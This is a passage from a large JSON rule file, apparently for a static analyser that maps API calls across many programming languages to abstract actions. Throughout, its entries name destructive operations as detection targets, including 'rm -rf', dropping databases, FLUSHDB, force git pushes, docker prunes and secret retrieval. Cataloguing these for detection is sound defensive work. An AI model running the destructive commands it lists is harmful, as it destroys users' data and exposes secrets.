 ln -s $0 $1","FileUtils.chmod":"chmod $1 $0","FileUtils.chmod_R":"run chmod -R $0 $1","FileUtils.chown_R":"run chown -R $0 $2","File.chmod":"chmod $1.. $0","Fi\
le.chown":"run chown $0 $2..","File.truncate":"run truncate -s 0 $0","File.join":"join $all","File.dirname":"dirname $0","Dir.home":"value ~","Dir.pwd":"value .\
","Dir.mktmpdir":"calls-back new-folder","Dir.tmpdir":"value /tmp","Dir.glob":"calls-back glob $0","Pathname.glob":"calls-back glob $0","Dir.children":"names $0\
","Dir.entries":"names $0","Dir.each_child":"names $0","Find.find":"calls-back folder $0","Process.kill":"kill $1.. $0","Process.uid":"value","fork":"if-sign:re\
peats run fork","TCPSocket.new":"connect $all","TCPSocket.open":"connect $all"},"methods":{"write":"send $self $0","puts":"send $self $0","execute":"sql $0","ex\
ec_params":"sql $0","query":"sql $0","async_exec":"sql $0","run":"sql $0","exec_query":"sql $0","exec":"if-made:ssh shell $0 | sql $0","method":"method $self $0\
","const_get":"attribute $self $0","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1..","then":"then","yield_\
self":"then","find_each":"if-name calls-back made rows","in_batches":"if-name calls-back made rows","update_all":"if-name run sql update-all $owner","destroy":"\
if-sign:unconditional if-made:rows if-none run sql delete-all rows","destroy!":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","purge":"if-\
sign:unconditional if-made:rows if-none run sql delete-all rows","remove":"if-made:docker-volume run docker volume rm $self","open":"if-text calls-back open $se\
lf $0","descendants":"entries model","subclasses":"entries model","delete_all":"if-made:model run sql delete-all rows | if-name if-kept run sql delete-all $owne\
r | run sql delete-some rows","destroy_all":"if-made:model run sql delete-all rows | if-name if-kept run sql delete-all $owner | run sql delete-some rows","dele\
te":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-all rows | if-gets:keys run sql flush FLUSHDB | if-database if-none run sql delete-all\
 $owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flush FLUSHDB","del":"if-gets:keys run sql flush FLUSHDB","truncate":"if-made:sequel run \
sql truncate rows","tap":"calls-back value $self","freeze":"value $self","dup":"value $self","clone":"value $self","compact":"value $self","uniq":"value $self",\
"sort":"value $self","to_a":"value $self","flatten":"value $self","to_set":"value $self","clear":"if-made:sidekiq run celery purge","database":"if-made:mongo va\
lue $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","exec!":"if-made:ssh shell $0","eval":"if-content eval $self | if-t\
ext eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0","module_eval":"if-arg:content eval $0 | if-arg:text eval $0","instance_eval":"if-arg\
:content eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql update-all rows","reset":"if-says:^hard$ if-args:2 run git reset --hard","from":"if-mad\
e:sequel value $self","keys":"calls-back if-stored entries keys","scan_each":"calls-back if-stored entries keys","rmtree":"if-text run rm -rf $self","children":\
"folder $self","each_child":"folder $self","gets":"if-made:peer received | if-made:connection received | if-list any-of $self","readline":"if-made:peer received\
 | if-made:connection received","readpartial":"if-made:peer received | if-made:connection received","recv":"if-made:peer received | if-made:connection received"\
,"recv_nonblock":"if-made:peer received | if-made:connection received","read_nonblock":"if-made:peer received | if-made:connection received","read":"if-made:pee\
r received | if-made:connection received | lines $self","accept":"made peer","accept_nonblock":"made peer","shift":"if-list any-of $self","first":"at 0 $self","\
last":"at -1 $self","fetch":"entry $self $0 | if-map environment $0 $1","each_pair":"if-map pairs $self","values":"if-map values $self","each_value":"if-map val\
ues $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":false,"lines\
":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["function"\
],"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"sdks":[],"texts":{"os.pwd":".","os.home":"~","FileManager.default.home\
DirectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/temporary","URL.temporaryDirectory":"/tmp/temporary","Direct\
ory.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."},"aliases":{},"rewrites":[["^(?:(?:System\\\\.IO|std|tokio\
|java|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"functions":{"print":"print","println":"print","console.log":"prin\
t","redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql flush $0","string.char":"characters $all","table.concat"\
:"join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fold lower $0","c":"value $all","list":"value $all","List.o\
f":"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all","mutableListOf":"value $all","Arrays.asList":"value $all\
","Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all","Stream.of":"value $all","List.toList":"value $all","IO.i\
nspect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_atom":"value $0","String.to_existing_atom":"value $0","exp\
and_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"value $0","Path.toFile":"value $0","File.toPath":"value $0",\
"Path.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","URL":"value $0","URI":"value $0","URI.create":"value $0","Ur\
i.parse":"value $0","Uri.unsafeParse":"value $0","expand_path":"value $0","Path.expand":"value $0","abspath":"value $0","normpath":"value $0","opendir":"value $\
0","filepath.Abs":"value $0","filepath.Clean":"value $0","os.ExpandEnv":"value $0","std.string":"value $0","string":"value $0","String.valueOf":"value $0","Proc\
ess":"value $0","Cmd":"value $0","must":"value $0","filepath.Join":"join $all","path.Join":"join $all","path.join":"join $all","Paths.get":"join $all","Path.of"\
:"join $all","Path.Combine":"join $all","Path.join":"join $all","File":"join $all","joinpath":"join $all","filename.join":"join $all","file.path":"join $all","p\
ath":"join $all","fs.path":"join $all","PathBuf.from":"join $all","Path.new":"join $all","Path":"join $all","os.Path":"join $all","join_path":"join $all","path_\
join":"join $all","Path.Join":"join $all","home_dir":"value ~","dirs.home_dir":"value ~","home.home_dir":"value ~","os.UserHomeDir":"value ~","UserHomeDir":"val\
ue ~","homedir":"value ~","path_home":"value ~","System.user_home":"value ~","user_home":"value ~","NSHomeDirectory":"value ~","FileManager.default.homeDirector\
yForCurrentUser":"value ~","getHomeDir":"value ~","os.Getwd":"value .","pwd":"value .","getwd":"value .","File.cwd":"value .","os.pwd":"value .","getCurrentDir"\
:"value .","env.current_dir":"value .","Dir.pwd":"value .","lfs.currentdir":"value .","os.Getenv":"environment $0","System.getenv":"environment $0","System.getP\
roperty":"environment $0","os.getenv":"environment $0","getenv":"environment $0","Sys.getenv":"environment $0","env.var":"environment $0","System.get_env":"envi\
ronment $0","make_temp_file":"value /tmp/\\ufffc","os.MkdirTemp":"value /tmp/\\ufffc","ioutil.TempDir":"value /tmp/\\ufffc","os.CreateTemp":"value /tmp/\\ufffc","te\
mpfile.tempdir":"value /tmp/\\ufffc","tempdir":"value /tmp/\\ufffc","tempfile":"value /tmp/\\ufffc","mktempdir":"value /tmp/\\ufffc","mktemp":"value /tmp/\\ufffc","t\
empname":"value /tmp/\\ufffc","os.tmpname":"value /tmp/\\ufffc","os.TempDir":"value /tmp/\\ufffc","env.temp_dir":"value /tmp/\\ufffc","TempDir.new":"value /tmp/\\uff\
fc","tempfile.Builder.new":"value /tmp/\\ufffc","Files.createTempDirectory":"value /tmp/\\ufffc","Files.createTempFile":"value /tmp/\\ufffc","createTempDir":"value\
 /tmp/\\ufffc","createTempDirectory":"value /tmp/\\ufffc","createTempFile":"value /tmp/\\ufffc","File.createTempFile":"value /tmp/\\ufffc","File.createTempDir":"val\
ue /tmp/\\ufffc","os.temp.dir":"value /tmp/\\ufffc","os.temp":"value /tmp/\\ufffc","Directory.systemTemp.createTemp":"value /tmp/\\ufffc","Directory.systemTemp.crea\
teTempSync":"value /tmp/\\ufffc","FileManager.default.temporaryDirectory":"value /tmp/\\ufffc","NSTemporaryDirectory":"value /tmp/\\ufffc","Path.GetTempPath":"valu\
e /tmp/\\ufffc","Path.GetTempFileName":"value /tmp/\\ufffc","System.tmp_dir":"value /tmp/\\ufffc","mkdtemp":"value /tmp/\\ufffc","tmpnam":"value /tmp/\\ufffc","Brief\
ly.create":"value /tmp/\\ufffc","getTempDir":"value /tmp/\\ufffc","rm":"if-option:recursive=true run rm -rf $0 | run rm $0","file.remove":"run rm $0","os.Remove":\
"run rm $0","fs.remove_file":"run rm $0","Files.delete":"run rm $0","Files.deleteIfExists":"run rm $0","unlink":"run rm $0","remove":"run rm $0","os.remove":"ru\
n rm $0","os.remove.file":"run rm $0","File.rm":"run rm $0","File.Delete":"run rm $0","file.delete":"run rm $0","File.delete":"run rm $0","vim.uv.fs_unlink":"ru\
n rm $0","vim.loop.fs_unlink":"run rm $0","file_delete":"run rm $0","removeFile":"run rm $0","remove_file":"run rm $0","deleteFile":"run rm $0","delete-file":"r\
un rm $0","delete_file":"run rm $0","vim.fn.delete":"run rm -rf $0","vim.fs.rm":"run rm -rf $0","os.RemoveAll":"run rm -rf $0","fs.remove_dir_all":"run rm -rf $\
0","Files.remove_all":"run rm -rf $0","remove_all":"run rm -rf $0","FileUtils.deleteDirectory":"run rm -rf $0","FileUtils.deleteQuietly":"run rm -rf $0","FileUt\
ils.forceDelete":"run rm -rf $0","FileUtils.cleanDirectory":"run rm -rf $0","File.rm_rf":"run rm -rf $0","file.del_dir_r":"run rm -rf $0","Directory.Delete":"ru\
n rm -rf $0","dir_delete":"run rm -rf $0","os.remove.all":"run rm -rf $0","removeDir":"run rm -rf $0","removeDirectoryRecursive":"run rm -rf $0","removePathForc\
ibly":"run rm -rf $0","rm_rf":"run rm -rf $0","delete-directory":"run rm -rf $0","delete_directory":"run rm -rf $0","remove_dir_all":"run rm -rf $0","delete_dir\
ectory_tree":"run rm -rf $0","delete_directory_files":"run rm -rf $0","fs.rm_rf":"run rm -rf $0","FileUtils.deleteTree":"run rm -rf $0","deltree":"run rm -rf $0\
","gen_tcp.recv":"received","require":"module $0","SqlCommand":"sql $0","NpgsqlCommand":"sql $0","MySqlCommand":"sql $0","SqliteCommand":"sql $0","OracleCommand\
":"sql $0","OleDbCommand":"sql $0","OdbcCommand":"sql $0","setuid":"run setuid $0","seteuid":"run setuid $0","syscall.Setuid":"run setuid $0","unix.Setuid":"run\
 setuid $0","setreuid":"run setuid $last","setresuid":"run setuid $last","lfs.rmdir":"run rmdir $0","rmdir":"run rmdir $0","fs.remove_dir":"run rmdir $0","File.\
rmdir":"run rmdir $0","file.del_dir":"run rmdir $0","os.remove.dir":"run rmdir $0","system":"shell $0","popen":"shell $0","os.execute":"shell $0","io.popen":"sh\
ell $0","shell":"shell $0","os.cmd":"shell $0","System.shell":"shell $0","Runtime.exec":"shell $0","execShellCmd":"shell $0","execCmd":"shell $0","execCmdEx":"s\
hell $0","staticExec":"shell $0","spawnCommand":"shell $0","shell_command":"shell $0","shell_command_to_string":"shell $0","async_shell_command":"shell $0","uio\
p.run_program":"shell $0","run_program":"shell $0","run_shell_command":"shell $0","run":"shell $0","callCommand":"shell $0","success":"shell $0","readchomp":"sh\
ell $0","call_process":"program $all","start_process":"program $all","exec.Command":"program $all","exec.CommandContext":"program $all","ProcessBuilder":"progra\
m $all","os.proc":"program $all","spawn":"spawn $0 $1","system2":"spawn $0 $1","System.cmd":"spawn $0 $1","Process.run":"spawn $0 $1","Process.runSync":"spawn $\
0 $1","Process.start":"spawn $0 $1","Process.Start":"spawn $0 $1","execl":"execute $0 $1..","execlp":"execute $0 $1..","execv":"execute $0 $1..","execvp":"execu\
te $0 $1..","execve":"execute $0 $1..","kill":"kill $0 $1","syscall.Kill":"kill $0 $1","writeFile":"write $0 $1","os.WriteFile":"write $0 $1","ioutil.WriteFile"\
:"write $0 $1","fs.write":"write $0 $1","Files.writeString":"write $0 $1","Files.write":"write $0 $1","File.write":"write $0 $1","spit":"write $0 $1","File.Writ\
eAllText":"write $0 $1","File.WriteAllLines":"write $0 $1","File.WriteAllBytes":"write $0 $1","write_file":"write $0 $1","os.write.over":"write $0 $1","File.App\
endAllText":"write $0 $1 append","File.AppendAllLines":"write $0 $1 append","writeLines":"write $1 $0","fopen":"open $0 $1","io.open":"open $0 $1","File.open":"\
open $0 $1","open":"open $0 $1 flags","os.OpenFile":"open $0 $1 flags","cat":"if-option:file write $:file $0","os.Create":"open $0 w","File.create":"open $0 w",\
"FileWriter":"open $0 w","PrintWriter":"open $0 w","FileOutputStream":"open $0 w","os.Truncate":"run truncate -s 0 $0","truncate":"run truncate -s 0 $0","os.Rea\
dFile":"read $0","ioutil.ReadFile":"read $0","os.Open":"read $0","fs.read":"read $0","fs.read_to_string":"read $0","Files.readString":"read $0","Files.readAllBy\
tes":"read $0","Files.readAllLines":"read $0","File.read":"read $0","File.ReadAllText":"read $0","upload_file":"read $0","readLines":"read $0","read_file":"read\
 $0","FileInputStream":"read $0","FileReader":"read $0","File.ReadAllLines":"read $0","File.ReadAllBytes":"read $0","File.ReadLines":"read $0","File.OpenText":"\
read $0","File.OpenRead":"read $0","StreamReader":"read $0","godotenv.Read":"read $0","toml.DecodeFile":"read $0","ini.Load":"read $0","readRDS":"read $0","read\
_yaml":"read $0","read_json":"read $0","fromJSON":"read $0","read.csv":"read $0","read.table":"read $0","readr::read_file":"read $0","TOML.parsefile":"read $0",\
"YAML.load_file":"read $0","JSON.parsefile":"read $0","readdlm":"read $0","String.contentsOfFile":"read $0","Data.contentsOf":"read $0","slurp":"read $0","HttpR\
equest.BodyPublishers.ofFile":"read $0","BodyPublishers.ofFile":"read $0","File.read_to_string":"read $0","os.ReadDir":"names $0","ioutil.ReadDir":"names $0","l\
fs.dir":"names $0","File.ls":"names $0","readdir":"names $0","listdir":"names $0","directory_files":"folder $0","list.files":"folder $0","list.dirs":"folder $0"\
,"dir_ls":"folder $0","fs.read_dir":"folder $0","os.list":"folder $0","Files.list":"folder $0","directory_iterator":"folder $0","directory_files_recursively":"f\
older $0 below","WalkDir.new":"folder $0 below","os.walk":"folder $0 below","Files.walk":"folder $0 below","recursive_directory_iterator":"folder $0 below","wal\
kdir.WalkDir.new":"folder $0 below","filepath.Walk":"calls-back folder $0 below","filepath.WalkDir":"calls-back folder $0 below","nftw":"calls-back folder $0 be\
low","ftw":"calls-back folder $0 below","walkdir":"walk $0","filelib.wildcard":"glob $0","filepath.Glob":"glob $0","glob":"glob $0","Sys.glob":"glob $0","glob.g\
lob":"glob $0","Path.wildcard":"glob $0","any_of":"any-of $0","filepath.Dir":"dirname $0","dirname":"dirname $0","Path.dirname":"dirname $0","fmt.Sprintf":"form\
at $0 $1..","format":"format $0 $1..","String.format":"format $0 $1..","string.format":"format $0 $1..","sprintf":"format $0 $1..","strings.Fields":"split $0","\
words":"split $0","String.split":"split $0","OptionParser.split":"split $0","shellwords.split":"split $0","shlex.split":"split $0","lapply":"map $1 $0","sapply"\
:"map $1 $0","vapply":"map $1 $0","walk":"map $1 $0","Enum.each":"map $1 $0","Enum.map":"map $1 $0","Task.async_stream":"map $1 $0","lists.foreach_":"map $1 $0"\
,"for_each":"map $0 $1","mapc":"map $0 $1","mapcar":"map $0 $1","foreach":"map $0 $1","map":"map $0 $1","lists.foreach":"map $0 $1","lists.map":"map $0 $1","pca\
ll":"invoke $0","dbExecute":"sql $0 | sql $1","dbSendQuery":"sql $0 | sql $1","dbGetQuery":"sql $0 | sql $1","dbSendStatement":"sql $0 | sql $1","execute":"sql \
$0 | sql $1","DBInterface.execute":"sql $0 | sql $1","SQLite.execute":"sql $0 | sql $1","SQL.query":"sql $0 | sql $1","query":"sql $0 | sql $1","LibPQ.execute":\
"sql $0 | sql $1","sqlx.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_query":"sql $0 | sql $1","PQexec":"sql $0 | sql $1","sqlite3_exec":\
"sql $0 | sql $1","sql_query":"sql $0 | sql $1","dbRemoveTable":"run sql drop-table rows","mnesia.delete_table":"run sql drop-table rows","mnesia.clear_table":"\
run sql drop-table rows","mnesia.delete_schema":"run sql drop-schema db","code.load_binary":"eval $2","socket.http.request":"request GET $0","ssl.https.request"\
:"request GET $0","http.Get":"request GET $0","reqwest.get":"request GET $0","GET":"request GET $0","httpc.request":"request GET $0","httpc_get":"request GET $0\
","http.get":"request GET $0","POST":"request POST $0 $1 $:body","PUT":"request POST $0 $1 $:body","http.request":"request POST $0 $1 $:body","httr.POST":"reque\
st POST $0 $1 $:body","HTTP.post":"request POST $0 $1 $:body","HTTPoison.post":"request POST $0 $1 $:body","Req.post":"request POST $0 $1 $:body","httpc_post":"\
request POST $0 $1 $:body","http.Post":"request POST $0 $2","http.PostForm":"request POST $0 $2","HttpRequest.newBuilder":"made request $0","Request.post":"made\
 request $0","jenkinsItems":"made jenkins"},"methods":{"apply":"value $self","also":"value $self","use":"value $self","let":"value $self","run":"value $self","o\
nEnter":"value $self","sorted":"value $self","sort":"value $self","toList":"value $self","toMutableList":"value $self","stream":"value $self","iter":"value $sel\
f","into_iter":"value $self","iter_mut":"value $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value $self","expect":"value $self","o\
k":"value $self","clone":"value $self","cloned":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"value $self","to_string":"value $sel\
f","toString":"value $self","path":"value $self","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path":"value $self","filter_map":"val\
ue $self","filter_entry":"value $self","take":"value $self","skip":"value $self","lines":"value $self","get":"value $self","await":"value $self","toAbsolutePath\
":"value $self","normalize":"value $self","iterator":"value $self","asSequence":"value $self","parallelStream":"value $self","toArray":"value $self","max_depth"\
:"value $self","min_depth":"value $self","standardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_str":"value $self","to_owned":"val\
ue $self","into":"value $self","del":"if-gets:keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-made:jenkins run cloud-sdk delete | \
if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self","unlink":"if-gets:keys run sql flush FLUSHDB | if-text run rm -r $self","scan_iter"\
:"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys","storage_down":"run sql drop-database db","drop_database":"run sql dro\
p-database db","dropDatabase":"run sql drop-database db","execute":"if-text shell $self | if-list shell $self | sql $0 | sql $1","status":"if-list shell $self",\
"output":"if-list shell $self","spawn":"if-list shell $self","start":"if-list shell $self","Run":"if-list shell $self","Output":"if-list shell $self","CombinedO\
utput":"if-list shell $self","Start":"if-list shell $self","exec":"if-list shell $self | sql $0 | sql $1","call":"if-list shell $self","arg":"concatenate $self \
$all","args":"concatenate $self $all","removeItem":"run rm -rf $0:at:atPath","trashItem":"run rm -rf $0:at:atPath","rm_rf":"run rm -rf $self","deleteRecursively\
":"run rm -rf $self","deleteDir":"run rm -rf $self","delete_recursively":"run rm -rf $self","deleteOnExitRecursively":"run rm -rf $self","doDelete":"if-made:jen\
kins run cloud-sdk delete","getPlainText":"run Get-Secret","receive":"if-sign:network received","recv":"if-sign:network received","ReadString":"if-sign:network \
received","ReadBytes":"if-sign:network received","ReadLine":"if-sign:network received","readLine":"if-sign:network received","ReadLineAsync":"if-sign:network re\
ceived","FormValue":"if-sign:network received","PostFormValue":"if-sign:network received","read_line":"if-sign:network received","Push":"if-option:Force=true ru\
n git push --force","PushContext":"if-option:Force=true run git push --force","ContainerRemove":"run docker rm -f $1","VolumeRemove":"run docker volume rm $1","\
VolumesPrune":"run docker volume prune -af","SystemPrune":"run docker system prune -af","deleteSync":"if-text if-option:recursive=true run rm -rf $self | if-tex\
t run rm -r $self","rm":"if-text run rm -r $self","deleteIfExists":"if-text run rm -r $self","resolve":"join $self $0","appendingPathComponent":"join $self $0",\
"appending":"join $self $0","child":"join $self $0","div":"join $self $0","join":"join $self $0","listFiles":"folder $self","list":"folder $self","listSync":"fo\
lder $self","children":"folder $self","read_dir":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","walkBottomUp":"folder $self belo\
w","contentsOfDirectory":"folder $0:at:atPath","enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"write $self $0","writeAsString":"w\
rite $self $0","writeAsStringSync":"write $self $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write $self $0 append","printWriter":\
"open $self w","bufferedWriter":"open $self w","writer":"open $self w","outputStream":"open $self w","readText":"read $self","readAsString":"read $self","readAs\
StringSync":"read $self","readBytes":"read $self","readLines":"read $self","inputStream":"read $self","getText":"read $self","write":"send $self $0","body":"sen\
d $self $0","puts":"send $self $0","POST":"send $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $0","uri":"made request $0","url"\
:"made request $0","Exec":"sql $0 | sql $1","ExecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | sql $1","QueryRow":"sql $0 | sql \
$1","MustExec":"sql $0 | sql $1","executeUpdate":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0 | sql $1","addBatch":"sql $0 | \
sql $1","prepareStatement":"sql $0 | sql $1","prepare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","ExecuteNonQuery":"sql $0 | sql $\
1","executeSql":"sql $0 | sql $1","rawQuery":"sql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","simple_query":"sql $0 | sql $1"}}},\
"dialects":{"lua":{"comment":"--\\\\[\\\\[[\\\\s\\\\S]*?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S\
]*?)\\\\]\\\\]","rewrites":[["lfs\\\\.(?:symlink)?attributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\\\\.\\\\.(?!\\\\.)","+"],["\\\\blocal\\\\\
s+(?=function\\\\b)",""],["\\\\blocal\\\\s+(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!="],["\\\\b(os\\\\.(?:execute|remove\
|getenv)|io\\\\.(?:popen|open)|require)\\\\s*(\\"\\\\d+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\bin\\\\s+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{\
([^{};=]*)\\\\}","$1[$2]"],["(=\\\\s*|\\\\(\\\\s*|\\\\breturn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\s*)?(\\\\w+)\\\\s+in\\\\s+","for $1 of\
 "],["\\\\bfunction\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\w+)?\\\\s*(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:then|do|repeat)\\\\b","{"],["\\\\bel\
seif\\\\b","} else if"],["\\\\belse\\\\b","} else {"],["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]\
|\\\\\\\\[\\\\s\\\\S])*)'","rewrites":[["\\\\b(?:library|require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forget("],["\\\\b(?:base|fs|httr2?|DBI|\
utils|tools|purrr|paws|yaml|jsonlite|readr)::",""],["(?<=[\\\\w)\\\\]])\\\\$(?=[A-Za-z_.])","."],["\\\\bunlink\\\\b","rm_rf"],["\\\\bfile\\\\.exists\\\\b|\\\\bdir\\\\.exists\\\\b","i\
sDirectory"],["<<?-","="],["(?:\\\\|>|%>%)\\\\s*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","list("],["([(,]\\\\s*)([\\\\w.]+)\\\\s*=(?!=)","$1$2: "],["(?<![\
\\\\w.])([\\\\w.]{1,60}) {0,4}= {0,4}function\\\\s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\))\\\\s*(?!\\\\{)","$1 => "],["\\\\bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\
\\\\s","for ($1 of "],["\\\\bfile\\\\.path\\\\b","join_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\\\\([^()]*\\\\))\\\\)","$2.map((it) => join_path($1, it))"],[\
"\\\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + \\" \\" + $2)"]]},"julia":{"comment":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]\
*","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b(?:raw|sql))?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*)\`|(?<![\\\\w)\\\\]])'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\(?([\\\
\\w.]+(?:\\\\([^()]*\\\\))?)\\\\)?","rewrites":[["^[ \\\\t]*(?:using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\()","$1"],["\\\\bforeach\\\\(","map("],["\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\
\\\\(\\\\))?),\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.map((it) => $1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Base\\\\.Filesystem|FilePathsBase)\\\\.(?=\\\\w)",""],["\\\\bmktempdir\\\\(\
\\\\s*\\\\)\\\\s+do\\\\s+(\\\\w+)","$1 = mktempdir();"],[";\\\\s*(?=(?:recursive|force|join|dir|onerror)\\\\s*=)",", "],["([(,]\\\\s*)(\\\\w+)\\\\s*=(?!=)","$1$2: "],["\\\\|>\\\\s*([\\\\\
w.]+)",".$1()"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["(\\"\\\\d+\\")\\\\s\
*\\\\*\\\\s*(?=[\\\\w\\"])","$1 + "],["([\\\\w)])\\\\s\\\\*\\\\s(?=\\")","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)|\\\\b(\\\\w+))\\\\s*->\\\\s*","($1$2) => "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)\
(?:\\\\s*,\\\\s*\\\\w+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*),\\\\s*(\\\\w+)\\\\s+(?:in|\\u2208)\\\\s+\\\\w+","for ($1 of $\
2) $3 = $1;"],["\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^()]*,\\\\s*(\\\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*)","f\
or ($1$2 of $3);"],["^([ \\\\t]*)([\\\\w.]+)(\\\\([^()=]*\\\\))\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 { $4 }"],["\\\\bfunction\\\\s+(\\\\w+\\\\s*\\\\([^()]*\\\\))","function $1 \
{"],["^end\\\\b","}"]]},"elixir":{"comment":"#[^\\\\n{][^\\\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|~[sS]?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?\
:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'|~[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\]}|/\\"]*)[)\\\\]}|/\\"]a?","inserts":"#\\\\{([^{}]*)\\\\}","rewrites":\
[["\\\\{:ok, ?(\\\\w+)\\\\} ?=(?!=)","$1 ="],["~w(\\"\\\\d+\\")","words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bwhere\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,999}\\\\bwhere\\\\b))","delete_\
some"],["^[ \\\\t]*(?:alias|import|use|require)\\\\b[^\\\\n;]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>","+"],["&([\\\\w.:]+)/1","(it) => $1(it)"],["&([\\\\w.:]+)/\\\\d","$\
